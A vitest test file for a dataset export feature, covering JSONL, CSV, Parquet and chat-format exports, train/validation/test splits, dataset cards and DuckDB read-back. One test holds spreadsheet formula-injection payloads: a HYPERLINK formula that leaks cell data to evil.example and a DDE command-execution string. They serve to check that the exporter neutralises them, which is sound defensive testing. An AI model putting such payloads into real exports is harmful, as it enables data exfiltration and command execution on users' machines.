import Papa from "papaparse";
import { unzipSync, strFromU8 } from "fflate";
import zlib from "node:zlib";
import { parquetReadObjects } from "hyparquet";
import { afterAll, describe, expect, test } from "vitest";
import { createDataset } from "@/lib/datasets/server/datasets";
import { createProject } from "@/lib/projects/server/projects";
import { nonTextFields } from "@/lib/records/values";
import { testDb, uniqueName } from "@/lib/testing/db";
import { duckDbReader } from "@/lib/testing/duckdb";
import type { ExportProgress } from "../progress";
import { ExportRequest, type ExportRequestInput } from "../schemas";
import { startExport } from "./export";
import { checkOpenAiExport, previewCard, previewExport } from "./preview";
import { createRawPool } from "@/lib/db/copy/server/raw-pg";

const db = testDb();
const pool = createRawPool(process.env.DATABASE_URL!, 4);
afterAll(async () => {
  await pool.end();
  await db.$disconnect();
});

type Seed = {
  values: Record<string, unknown>;
  /** Default: what a run writes, the fields that are not strings. null: not known. */
  nonTextFields?: string[] | null;
  labels?: Record<string, unknown>;
  reviewState?: string;
  source?: string;
  status?: string;
  edits?: Record<string, unknown>;
};

async function dataset(records: Seed[]) {
  const p = await createProject(db, { name: uniqueName("Export") });
  const d = await createDataset(db, { projectId: p.id, name: "Support replies" });
  const v = await db.blueprintVersion.create({ data: { datasetId: d.id, version: 1, blueprint: { fields: [] }, hash: "x" } });
  const run = await db.run.create({ data: { datasetId: d.id, blueprintVersionId: v.id, requested: records.length, seed: 1, settings: {}, status: "completed" } });
  await insert(d.id, run.id, records, 0);
  return { datasetId: d.id, runId: run.id };
}

async function insert(datasetId: string, runId: string, records: Seed[], start: number) {
  const rows = records.map((r, i) => ({
    index: start + i,
    values: r.values,
    nonTextFields: r.nonTextFields === undefined ? nonTextFields(r.values) : r.nonTextFields,
    labels: r.labels ?? {},
    edits: r.edits ?? {},
    review: r.reviewState ?? "accepted",
    source: r.source ?? "generated",
    status: r.status ?? "succeeded",
    provenance: r.source === "imported" ? {} : { blueprintVersion: 1, sampled: { i: start + i }, llm: { answer: { model: "gpt-4o-mini" } } },
  }));
  await pool.query(
    `insert into "Record" (id, "datasetId", "runId", index, source, status, values, "nonTextFields", provenance, "reviewState", labels, edits, "tokensIn", "tokensOut", "costUsd", "updatedAt")
     select gen_random_uuid(), $2::uuid, case when x.source = 'imported' then null else $3::uuid end, x.index, x.source, x.status::"RecordStatus", x.values, x."nonTextFields", x.provenance,
       x.review::"ReviewState", x.labels, x.edits, 10, 20, 0.001, now()
     from jsonb_to_recordset($1::jsonb) as x(index int, values jsonb, "nonTextFields" text[], labels jsonb, edits jsonb, review text, source text, status text, provenance jsonb)`,
    [JSON.stringify(rows), datasetId, runId],
  );
}

async function exportBytes(datasetId: string, input: ExportRequestInput) {
  const d = await startExport(db, pool, datasetId, ExportRequest.parse(input));
  const chunks: Uint8Array[] = [];
  for await (const c of d.body as unknown as AsyncIterable<Uint8Array>) chunks.push(c);
  return { ...d, bytes: new Uint8Array(Buffer.concat(chunks)) };
}

const text = (b: Uint8Array) => new TextDecoder().decode(b);
const jsonLines = (b: Uint8Array) =>
  text(b)
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l));

const TRICKY: Seed[] = [
  { values: { question: "What is 2 + 2?", answer: 'It is "4".\nReally.', n: 3, tags: ["math", "easy"], meta: { ok: true, nested: [1, null] } }, labels: { tone: "formal" } },
  { values: { question: "Café, 東京 or 🦜? Back\\slash and tab\there", answer: "", n: -1.5 }, labels: { tone: "friendly", flags: ["short", "odd"] } },
  { values: { question: "No answer at all" }, labels: {} },
  { values: { question: "Edited", answer: "the reviewer's text" }, edits: { answer: [{ from: "the model's text", to: "the reviewer's text", by: "ann", at: "2026-11-22" }] } },
  { values: { question: "Rejected one", answer: "x" }, reviewState: "rejected" },
];

describe("export: rows straight from PostgreSQL", () => {
  test("JSONL round trip: every JSON type, unicode, escapes, missing fields, edited values, provenance", async () => {
    const { datasetId, runId } = await dataset(TRICKY);
    const out = await exportBytes(datasetId, { format: "jsonl", fields: ["question", "answer", "n", "tags", "meta"], provenance: true });
    expect(out.total).toBeNull(); // not counted without splits (the page shows its preview's count)
    expect(jsonLines(out.bytes)).toHaveLength(4); // accepted only by default
    expect(out.contentType).toBe("application/x-ndjson");
    expect(out.fileName).toBe("support-replies.jsonl");
    const lines = jsonLines(out.bytes).sort((a, b) => a._sampled.i - b._sampled.i);
    expect(lines.map(({ _record_id, ...rest }) => (expect(_record_id).toMatch(/^[0-9a-f-]{36}$/), rest))).toEqual([
      { question: "What is 2 + 2?", answer: 'It is "4".\nReally.', n: 3, tags: ["math", "easy"], meta: { ok: true, nested: [1, null] }, _source: "generated", _run_id: runId, _blueprint_version: 1, _models: { answer: "gpt-4o-mini" }, _sampled: { i: 0 } },
      { question: "Café, 東京 or 🦜? Back\\slash and tab\there", answer: "", n: -1.5, tags: null, meta: null, _source: "generated", _run_id: runId, _blueprint_version: 1, _models: { answer: "gpt-4o-mini" }, _sampled: { i: 1 } },
      { question: "No answer at all", answer: null, n: null, tags: null, meta: null, _source: "generated", _run_id: runId, _blueprint_version: 1, _models: { answer: "gpt-4o-mini" }, _sampled: { i: 2 } },
      { question: "Edited", answer: "the reviewer's text", n: null, tags: null, meta: null, _source: "generated", _run_id: runId, _blueprint_version: 1, _models: { answer: "gpt-4o-mini" }, _sampled: { i: 3 } },
    ]);
    expect(text(out.bytes)).not.toContain("the model's text");
  });

  test("CSV round trip through a CSV parser", async () => {
    const { datasetId } = await dataset(TRICKY);
    const out = await exportBytes(datasetId, { format: "csv", fields: ["question", "answer", "tags"], mapping: { label: { kind: "label", name: "tone" } } });
    const parsed = Papa.parse<Record<string, string>>(text(out.bytes), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(["question", "answer", "tags", "label"]);
    const byQ = Object.fromEntries(parsed.data.map((r) => [r.question, r]));
    expect(byQ["What is 2 + 2?"]).toEqual({ question: "What is 2 + 2?", answer: 'It is "4".\nReally.', tags: '["math", "easy"]', label: "formal" });
    expect(byQ["Café, 東京 or 🦜? Back\\slash and tab\there"]).toMatchObject({ answer: "", label: "friendly" });
    expect(byQ["No answer at all"]).toEqual({ question: "No answer at all", answer: "", tags: "", label: "" });
  });

  test("Parquet round trip through hyparquet (zstd)", async () => {
    const records: Seed[] = Array.from({ length: 2500 }, (_, i) => ({ values: { i, text: `Row ${i} — ${"é".repeat(i % 7)}\n"q"`, kind: ["a", "b"][i % 2] }, labels: { tone: i % 3 ? "formal" : "friendly" } }));
    const { datasetId } = await dataset(records);
    const out = await exportBytes(datasetId, { format: "parquet", fields: ["i", "text", "kind"] });
    expect(out.fileName).toBe("support-replies.parquet");
    const rows = await parquetReadObjects({
      file: out.bytes.buffer.slice(out.bytes.byteOffset, out.bytes.byteOffset + out.bytes.length) as ArrayBuffer,
      compressors: { ZSTD: (input: Uint8Array) => new Uint8Array(zlib.zstdDecompressSync(input)) },
    });
    expect(rows.length).toBe(2500);
    const sorted = rows.sort((a, b) => Number(a.i) - Number(b.i));
    expect(sorted[0]).toEqual({ i: "0", text: 'Row 0 — \n"q"', kind: "a" });
    expect(sorted[2499]).toEqual({ i: "2499", text: `Row 2499 — ${"é".repeat(2499 % 7)}\n"q"`, kind: "b" });
  });

  test("OpenAI chat JSONL, the check report, and leaving failing examples out", async () => {
    const { datasetId } = await dataset(TRICKY);
    const req: ExportRequestInput = { format: "openai", mapping: { system: { kind: "text", text: "Be brief." }, user: { kind: "field", name: "question" }, assistant: { kind: "field", name: "answer" } } };
    const out = await exportBytes(datasetId, req);
    expect(out.fileName).toBe("support-replies-openai-chat.jsonl");
    const lines = jsonLines(out.bytes);
    expect(lines).toHaveLength(4);
    expect(lines.find((l) => l.messages[1].content === "What is 2 + 2?")).toEqual({
      messages: [
        { role: "system", content: "Be brief." },
        { role: "user", content: "What is 2 + 2?" },
        { role: "assistant", content: 'It is "4".\nReally.' },
      ],
    });
    const report = await checkOpenAiExport(db, pool, datasetId, ExportRequest.parse(req));
    expect(report).toMatchObject({ checked: 4, failing: 2, byCode: { empty_content: 2 } });
    expect(report.samples.map((s) => s.recordId).every((id) => /^[0-9a-f-]{36}$/.test(id ?? ""))).toBe(true);
    expect(report.file[0].code).toBe("too_few_examples");
    const kept = await exportBytes(datasetId, { ...req, openai: { skipInvalid: true } });
    expect(jsonLines(kept.bytes)).toHaveLength(2);
  });

  test("Alpaca and ShareGPT shapes", async () => {
    const { datasetId } = await dataset(TRICKY.slice(0, 1));
    const alpaca = jsonLines((await exportBytes(datasetId, { format: "alpaca", mapping: { instruction: { kind: "field", name: "question" }, output: { kind: "field", name: "answer" } } })).bytes);
    expect(alpaca).toEqual([{ instruction: "What is 2 + 2?", input: "", output: 'It is "4".\nReally.' }]);
    const share = jsonLines((await exportBytes(datasetId, { format: "sharegpt", mapping: { user: { kind: "field", name: "question" }, assistant: { kind: "label", name: "tone" } } })).bytes);
    expect(share).toEqual([{ conversations: [{ from: "human", value: "What is 2 + 2?" }, { from: "gpt", value: "formal" }] }]);
  });

  test("a value's JSON type: kept where values are JSON, its text where they are text", async () => {
    const { datasetId } = await dataset([{ values: { q: "x", n: 7, o: { a: [1, "b"] }, z: null, b: true } }]);
    const fields = ["q", "n", "o", "z", "b"];
    expect(jsonLines((await exportBytes(datasetId, { format: "jsonl", fields })).bytes)).toEqual([{ q: "x", n: 7, o: { a: [1, "b"] }, z: null, b: true }]);
    const csv = Papa.parse<Record<string, string>>(text((await exportBytes(datasetId, { format: "csv", fields })).bytes), { header: true, skipEmptyLines: true });
    expect(csv.data).toEqual([{ q: "x", n: "7", o: '{"a": [1, "b"]}', z: "", b: "true" }]);
    const pq = (await exportBytes(datasetId, { format: "parquet", fields })).bytes;
    const rows = await parquetReadObjects({
      file: pq.buffer.slice(pq.byteOffset, pq.byteOffset + pq.length) as ArrayBuffer,
      compressors: { ZSTD: (input: Uint8Array) => new Uint8Array(zlib.zstdDecompressSync(input)) },
    });
    expect(rows).toEqual([{ q: "x", n: "7", o: '{"a": [1, "b"]}', z: null, b: "true" }]);
    const chat = { format: "openai" as const, mapping: { user: { kind: "field" as const, name: "o" }, assistant: { kind: "field" as const, name: "n" } } };
    expect(jsonLines((await exportBytes(datasetId, chat)).bytes)).toEqual([{ messages: [{ role: "user", content: '{"a": [1, "b"]}' }, { role: "assistant", content: "7" }] }]);
    const alpaca = { format: "alpaca" as const, mapping: { instruction: { kind: "field" as const, name: "b" }, output: { kind: "field" as const, name: "z" } } };
    expect(jsonLines((await exportBytes(datasetId, alpaca)).bytes)).toEqual([{ instruction: "true", input: "", output: "" }]);
  });

  test("JSONL with more fields than one flags column holds: every value keeps its type", async () => {
    // 70 fields: three flags columns (31 per column), strings and numbers alternating.
    const values = Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`f${i}`, i % 2 ? i : `s${i}`]));
    const { datasetId } = await dataset([{ values }, { values: { ...values, f0: 0, f69: "69", f31: null } }]);
    const fields = Object.keys(values);
    const lines = jsonLines((await exportBytes(datasetId, { format: "jsonl", fields })).bytes).sort((a, b) => String(a.f0).localeCompare(String(b.f0)));
    expect(lines).toEqual([{ ...values, f0: 0, f69: "69", f31: null }, values]);
    const preview = await previewExport(db, pool, datasetId, ExportRequest.parse({ format: "jsonl", fields }));
    expect(preview.text!.split("\n").filter(Boolean).map((l) => JSON.parse(l)).sort((a, b) => String(a.f0).localeCompare(String(b.f0)))).toEqual(lines);
  });

  test("JSONL: a record's nonTextFields spares the type question, and a superset or an unknown (null) list exports the same", async () => {
    const values = { q: "x", n: 7, o: { a: [1, "b"] }, z: null, b: true, s: "12", t: "true", u: '{"a":1}' };
    const fields = Object.keys(values);
    const lists = [undefined, [...fields, "i"], ["n", "q"], null]; // as written by a run, every field, a wrong subset, not known
    const { datasetId } = await dataset(lists.map((nonTextFields, i) => ({ values: { ...values, i }, nonTextFields })));
    const lines = jsonLines((await exportBytes(datasetId, { format: "jsonl", fields: [...fields, "i"] })).bytes).sort((a, b) => a.i - b.i);
    // Strings that look like other JSON stay strings; a field a record does not list is
    // taken as a string without asking: that is why writers must list every non-string.
    expect(lines.slice(0, 2)).toEqual([{ ...values, i: 0 }, { ...values, i: 1 }]);
    expect(lines[2]).toEqual({ ...values, o: '{"a": [1, "b"]}', z: null, b: "true", i: "2" });
    expect(lines[3]).toEqual({ ...values, i: 3 });
  });

  test("any filter: values with quotes, backslashes and % are literals, not SQL", async () => {
    const { datasetId } = await dataset([{ values: { q: "O'Reilly \\ 100% sure" } }, { values: { q: "O'Reilly" } }, { values: { q: "x" }, reviewState: "unreviewed", source: "imported" }]);
    const one = await exportBytes(datasetId, { format: "jsonl", fields: ["q"], filter: { values: [{ field: "q", op: "contains", value: "\\ 100%" }] } });
    expect(jsonLines(one.bytes)).toEqual([{ q: "O'Reilly \\ 100% sure" }]);
    const eq = await exportBytes(datasetId, { format: "jsonl", fields: ["q"], filter: { values: [{ field: "q", op: "eq", value: "O'Reilly" }], reviewState: ["accepted"] } });
    expect(jsonLines(eq.bytes)).toEqual([{ q: "O'Reilly" }]);
    const imported = await exportBytes(datasetId, { format: "jsonl", fields: ["q"], filter: { source: "imported" } });
    expect(jsonLines(imported.bytes)).toEqual([{ q: "x" }]);
    await expect(exportBytes(datasetId, { format: "jsonl", fields: ["q"], filter: { search: "nothing like this" } })).rejects.toThrow(/No records match/);
  });

  test("the preview is the file's first lines", async () => {
    // Written second half first: storage order differs from the (createdAt, index) index,
    // so a preview planned differently from the download would show other rows.
    const records: Seed[] = Array.from({ length: 50 }, (_, i) => ({ values: { q: `question ${i}`, a: `answer ${i}` } }));
    const { datasetId, runId } = await dataset(records.slice(25));
    await pool.query(`update "Record" set index = index + 25, "createdAt" = "createdAt" + interval '1 hour' where "datasetId" = $1`, [datasetId]);
    await insert(datasetId, runId, records.slice(0, 25), 0);
    for (const format of ["jsonl", "csv", "openai"] as const) {
      const req = ExportRequest.parse({ format, fields: ["q", "a"], mapping: { user: { kind: "field", name: "q" }, assistant: { kind: "field", name: "a" } } });
      const preview = await previewExport(db, pool, datasetId, req);
      const file = text((await exportBytes(datasetId, req)).bytes);
      expect(preview.total).toBe(50);
      expect(file.startsWith(preview.text!)).toBe(true);
      expect(preview.text!.split("\n").filter(Boolean)).toHaveLength(format === "csv" ? 4 : 3);
    }
    const pq = await previewExport(db, pool, datasetId, ExportRequest.parse({ format: "parquet", fields: ["q"] }));
    const first = jsonLines((await exportBytes(datasetId, { format: "jsonl", fields: ["q"] })).bytes).slice(0, 3);
    expect(pq.table).toEqual({ columns: ["q"], rows: first.map((l) => [l.q]) });
  });
});

describe("export: splits, card and zip", () => {
  const records = (n: number, from = 0): Seed[] =>
    Array.from({ length: n }, (_, k) => ({ values: { q: `q${from + k}` }, labels: { tone: (from + k) % 10 === 0 ? "rare" : "common" } }));

  async function splitOf(datasetId: string, split: ExportRequestInput["split"]) {
    const out = await exportBytes(datasetId, { format: "jsonl", fields: ["q"], provenance: true, split, card: true });
    expect(out.contentType).toBe("application/zip");
    const files = unzipSync(out.bytes);
    const assignment = new Map<string, string>();
    const counts: Record<string, number> = {};
    for (const name of ["train.jsonl", "validation.jsonl", "test.jsonl"]) {
      const lines = files[name] ? jsonLines(files[name]) : [];
      counts[name] = lines.length;
      for (const l of lines) assignment.set(l.q, name);
    }
    return { files, assignment, counts, card: strFromU8(files["README.md"]) };
  }

  test("same seed, same split; another seed, another; records added later leave existing ones where they were", async () => {
    const { datasetId, runId } = await dataset(records(1000));
    const spec = { train: 80, validation: 10, test: 10, seed: 42 };
    const a = await splitOf(datasetId, spec);
    const b = await splitOf(datasetId, spec);
    expect([...a.assignment]).toEqual([...b.assignment]);
    expect(a.assignment.size).toBe(1000);
    expect(a.counts["train.jsonl"]).toBeGreaterThan(740);
    expect(a.counts["train.jsonl"]).toBeLessThan(860);
    const c = await splitOf(datasetId, { ...spec, seed: 43 });
    expect([...c.assignment].filter(([q, f]) => a.assignment.get(q) !== f).length).toBeGreaterThan(50);
    await insert(datasetId, runId, records(500, 1000), 1000);
    const d = await splitOf(datasetId, spec);
    for (const [q, f] of a.assignment) expect(d.assignment.get(q)).toBe(f);
    // The card is written last, from the files as written.
    expect(d.card).toContain(`| train | \`train.jsonl\` | ${d.counts["train.jsonl"].toLocaleString("en-US")} | 80% |`);
  });

  test("stratified by a label: exact counts for every value", async () => {
    const { datasetId } = await dataset(records(1000));
    const s = await splitOf(datasetId, { train: 80, validation: 10, test: 10, seed: 7, stratifyBy: { kind: "label", name: "tone" } });
    const perFile = (file: string, tone: string) => [...s.assignment].filter(([q, f]) => f === file && (Number(q.slice(1)) % 10 === 0 ? "rare" : "common") === tone).length;
    expect([perFile("train.jsonl", "rare"), perFile("validation.jsonl", "rare"), perFile("test.jsonl", "rare")]).toEqual([80, 10, 10]);
    expect([perFile("train.jsonl", "common"), perFile("validation.jsonl", "common"), perFile("test.jsonl", "common")]).toEqual([720, 90, 90]);
    const again = await splitOf(datasetId, { train: 80, validation: 10, test: 10, seed: 7, stratifyBy: { kind: "label", name: "tone" } });
    expect([...again.assignment]).toEqual([...s.assignment]);
  });

  test("card without splits: one data file and README.md; card preview agrees", async () => {
    const { datasetId } = await dataset(records(30));
    const out = await exportBytes(datasetId, { format: "csv", fields: ["q"], card: true });
    expect(out.fileName).toBe("support-replies.zip");
    const files = unzipSync(out.bytes);
    expect(Object.keys(files).sort()).toEqual(["README.md", "support-replies.csv"]);
    const card = strFromU8(files["README.md"]);
    expect(card).toContain("| accepted | 30 |");
    expect(card).toContain("| common | 27 |");
    expect(card).toContain("- Tokens: 300 prompt + 600 completion");
    expect(card).toContain("| #1 (");
    const preview = await previewCard(db, pool, datasetId, ExportRequest.parse({ format: "csv", fields: ["q"], card: true }));
    expect(preview.replace(/on \d{4}-\d\d-\d\d \d\d:\d\d UTC/, "")).toBe(card.replace(/on \d{4}-\d\d-\d\d \d\d:\d\d UTC/, ""));
  });

  test("progress: rows as written, and a total only where the export counted (splits)", async () => {
    const { datasetId } = await dataset(Array.from({ length: 2500 }, (_, i) => ({ values: { q: `q${i} ${"x".repeat(300)}` } })));
    const reports: ExportProgress[] = [];
    const single = await startExport(db, pool, datasetId, ExportRequest.parse({ format: "jsonl", fields: ["q"] }), { onProgress: (p) => reports.push(p) });
    expect(single.total).toBeNull();
    for await (const _ of single.body as unknown as AsyncIterable<Uint8Array>);
    expect(reports.length).toBeGreaterThan(2);
    expect(reports.every((p) => p.total === null)).toBe(true);
    expect(reports.map((p) => p.rows)).toEqual([...reports.map((p) => p.rows)].sort((a, b) => a - b));
    expect(reports.at(-1)).toMatchObject({ state: "done", rows: 2500 });

    const split = await startExport(db, pool, datasetId, ExportRequest.parse({ format: "jsonl", fields: ["q"], split: { train: 80, validation: 10, test: 10, seed: 1 } }));
    expect(split.total).toBe(2500);
    await split.body.cancel();
  });

  test("a download cancelled before its first read gives its connection back", async () => {
    const { datasetId } = await dataset(Array.from({ length: 3000 }, (_, i) => ({ values: { q: `q${i} ${"x".repeat(500)}` } })));
    const d = await startExport(db, pool, datasetId, ExportRequest.parse({ format: "jsonl", fields: ["q"] }));
    await d.body.cancel();
    await expect.poll(() => pool.totalCount - pool.idleCount).toBe(0);
  });

  test("a cancelled download gives its connection back (destroyed, not left mid-COPY)", async () => {
    const { datasetId } = await dataset(Array.from({ length: 3000 }, (_, i) => ({ values: { q: `q${i} ${"x".repeat(500)}` } })));
    const d = await startExport(db, pool, datasetId, ExportRequest.parse({ format: "jsonl", fields: ["q"] }));
    const reader = d.body.getReader();
    await reader.read();
    await reader.cancel();
    await expect.poll(() => pool.totalCount - pool.idleCount).toBe(0);
    const again = await exportBytes(datasetId, { format: "jsonl", fields: ["q"] });
    expect(jsonLines(again.bytes)).toHaveLength(3000);
  });
});

// The files opened by a reader that shares no code with ours: DuckDB (its own Parquet, CSV
// and JSON readers, as used from Python, R and the CLI). Read the way a user would: CSV with
// its dialect sniffed, JSON with its shape inferred.
describe("export: files open in DuckDB", () => {
  const duck = duckDbReader("datawright-duckdb");

  const QA = ["question", "answer", "n", "tags", "meta"];

  test("Parquet: every row and value, text columns, our metadata, several row groups", async () => {
    const { datasetId } = await dataset(TRICKY);
    const out = await exportBytes(datasetId, { format: "parquet", fields: QA, mapping: { label: { kind: "label", name: "tone" } } });
    const rows = await duck("select * from read_parquet($file) order by question", out.bytes, "parquet");
    expect(rows).toEqual([
      { question: "Café, 東京 or 🦜? Back\\slash and tab\there", answer: "", n: "-1.5", tags: null, meta: null, label: "friendly" },
      { question: "Edited", answer: "the reviewer's text", n: null, tags: null, meta: null, label: null },
      { question: "No answer at all", answer: null, n: null, tags: null, meta: null, label: null },
      { question: "What is 2 + 2?", answer: 'It is "4".\nReally.', n: "3", tags: '["math", "easy"]', meta: '{"ok": true, "nested": [1, null]}', label: "formal" },
    ]);
    const types = await duck<{ column_type: string }>("select column_type from (describe select * from read_parquet($file))", out.bytes, "parquet");
    expect(new Set(types.map((t) => t.column_type))).toEqual(new Set(["VARCHAR"]));
    const kv = await duck<{ key: string; value: string }>("select decode(key) as key, decode(value) as value from parquet_kv_metadata($file)", out.bytes, "parquet");
    expect(JSON.parse(kv.find((k) => k.key === "datawright")!.value)).toMatchObject({ dataset: "Support replies", format: "parquet" });

    const many: Seed[] = Array.from({ length: 12_000 }, (_, i) => ({ values: { i, text: `Row ${i} ${"é".repeat(i % 5)}`, kind: ["a", "b", "c"][i % 3] } }));
    const big = await exportBytes((await dataset(many)).datasetId, { format: "parquet", fields: ["i", "text", "kind"] });
    const [facts] = await duck<{ n: string; groups: string; sum: string; last: string }>(
      `select count(*) as n, (select count(distinct row_group_id) from parquet_metadata($file)) as groups,
         sum(i::int) as sum, max_by(text, i::int) as last from read_parquet($file)`,
      big.bytes,
      "parquet",
    );
    expect(facts).toEqual({ n: "12000", groups: "3", sum: String((11_999 * 12_000) / 2), last: `Row 11999 ${"é".repeat(11_999 % 5)}` });
  });

  test("CSV: DuckDB sniffs the dialect and reads quotes, line breaks and empty cells back", async () => {
    const { datasetId } = await dataset(TRICKY);
    const out = await exportBytes(datasetId, { format: "csv", fields: ["question", "answer", "tags"], mapping: { label: { kind: "label", name: "tone" } } });
    const rows = await duck("select * from read_csv($file) order by question", out.bytes, "csv");
    expect(rows).toEqual([
      { question: "Café, 東京 or 🦜? Back\\slash and tab\there", answer: null, tags: null, label: "friendly" },
      { question: "Edited", answer: "the reviewer's text", tags: null, label: null },
      { question: "No answer at all", answer: null, tags: null, label: null },
      { question: "What is 2 + 2?", answer: 'It is "4".\nReally.', tags: '["math", "easy"]', label: "formal" },
    ]);
  });

  test("CSV for Excel: a byte-order mark in front, in every split file, and DuckDB still reads the header", async () => {
    const { datasetId } = await dataset(TRICKY);
    const plain = await exportBytes(datasetId, { format: "csv", fields: ["question"] });
    expect([...plain.bytes.subarray(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    const excel = await exportBytes(datasetId, { format: "csv", fields: ["question"], excel: true });
    expect([...excel.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text(excel.bytes.subarray(3))).toBe(text(plain.bytes));
    const rows = await duck("select * from read_csv($file) order by question", excel.bytes, "csv");
    expect(Object.keys(rows[0])).toEqual(["question"]);
    expect(rows.map((r) => r.question)).toContain("Café, 東京 or 🦜? Back\\slash and tab\there");
    const zipped = unzipSync((await exportBytes(datasetId, { format: "csv", fields: ["question"], excel: true, split: { train: 50, validation: 50, test: 0, seed: 1 } })).bytes);
    const splitFiles = Object.keys(zipped).filter((n) => n.endsWith(".csv"));
    expect(splitFiles.length).toBeGreaterThan(0);
    for (const name of splitFiles) expect([...zipped[name].subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // JSON formats never get one.
    const jsonl = await exportBytes(datasetId, { format: "jsonl", fields: ["question"], excel: true });
    expect(jsonl.bytes[0]).toBe(0x7b);
  });

  test("CSV: formula-like cells read back with a leading quote by default, in every split file; as they are when asked", async () => {
    const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1+9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1"];
    const { datasetId } = await dataset([...FORMULAS.map((f, i) => ({ values: { k: `f${i}`, v: f } })), { values: { k: "n", v: "-1.5" } }, { values: { k: "t", v: "a=b" } }]);
    // RFC 4180 named: with this many ' in the cells DuckDB's sniffer guesses another escape.
    const read = async (bytes: Uint8Array) =>
      Object.fromEntries((await duck<{ k: string; v: string }>("select k, v from read_csv($file, header = true, delim = ',', quote = '\"', escape = '\"', all_varchar = true)", bytes, "csv")).map((r) => [r.k, r.v]));
    const expected = (keep: boolean) => ({ ...Object.fromEntries(FORMULAS.map((f, i) => [`f${i}`, keep ? f : `'${f}`])), n: "-1.5", t: "a=b" });
    expect(await read((await exportBytes(datasetId, { format: "csv", fields: ["k", "v"] })).bytes)).toEqual(expected(false));
    expect(await read((await exportBytes(datasetId, { format: "csv", fields: ["k", "v"], keepFormulas: true })).bytes)).toEqual(expected(true));
    const zipped = unzipSync((await exportBytes(datasetId, { format: "csv", fields: ["k", "v"], card: true, split: { train: 50, validation: 50, test: 0, seed: 1 } })).bytes);
    const splitFiles = Object.keys(zipped).filter((n) => n.endsWith(".csv"));
    expect(splitFiles.length).toBe(2);
    const all = Object.assign({}, ...(await Promise.all(splitFiles.map((n) => read(zipped[n])))));
    expect(all).toEqual(expected(false));
    expect(strFromU8(zipped["README.md"])).toContain("start with an added single quote");
  });

  test("JSONL, OpenAI chat, Alpaca and ShareGPT: one inferred shape for every line", async () => {
    const { datasetId } = await dataset(TRICKY);
    const schema = async (bytes: Uint8Array) =>
      Object.fromEntries(
        (await duck<{ column_name: string; column_type: string }>("select column_name, column_type from (describe select * from read_json($file, format = 'newline_delimited'))", bytes, "jsonl")).map(
          (c) => [c.column_name, c.column_type],
        ),
      );
    const read = (bytes: Uint8Array, sql = "*") => duck(`select ${sql} from read_json($file, format = 'newline_delimited')`, bytes, "jsonl");

    const jsonl = (await exportBytes(datasetId, { format: "jsonl", fields: ["question", "n", "tags"] })).bytes;
    expect(await schema(jsonl)).toEqual({ question: "VARCHAR", n: "DOUBLE", tags: "VARCHAR[]" });
    expect(await read(jsonl, "count(*) as n, sum(n) as total, flatten(list(tags)) as tags")).toEqual([{ n: "4", total: 1.5, tags: ["math", "easy"] }]);

    const chat = (await exportBytes(datasetId, {
      format: "openai",
      mapping: { system: { kind: "text", text: "Be brief." }, user: { kind: "field", name: "question" }, assistant: { kind: "field", name: "answer" } },
      openai: { skipInvalid: true },
    })).bytes;
    expect(await schema(chat)).toEqual({ messages: "STRUCT(\"role\" VARCHAR, \"content\" VARCHAR)[]" });
    const turns = await duck<{ role: string; content: string }>("select m.role, m.content from (select unnest(messages) as m from read_json($file, format = 'newline_delimited')) order by m.content", chat, "jsonl");
    expect(turns.map((t) => t.role).sort()).toEqual(["assistant", "assistant", "system", "system", "user", "user"]);

    const alpaca = (await exportBytes(datasetId, { format: "alpaca", mapping: { instruction: { kind: "field", name: "question" }, output: { kind: "field", name: "answer" } } })).bytes;
    expect(await schema(alpaca)).toEqual({ instruction: "VARCHAR", input: "VARCHAR", output: "VARCHAR" });
    expect(await read(alpaca, "count(*) as n")).toEqual([{ n: "4" }]);

    const share = (await exportBytes(datasetId, { format: "sharegpt", mapping: { user: { kind: "field", name: "question" }, assistant: { kind: "field", name: "answer" } } })).bytes;
    expect(await schema(share)).toEqual({ conversations: "STRUCT(\"from\" VARCHAR, \"value\" VARCHAR)[]" });
    expect(await read(share, "count(*) as n, sum(len(conversations)) as turns")).toEqual([{ n: "4", turns: "8" }]);
  });
});
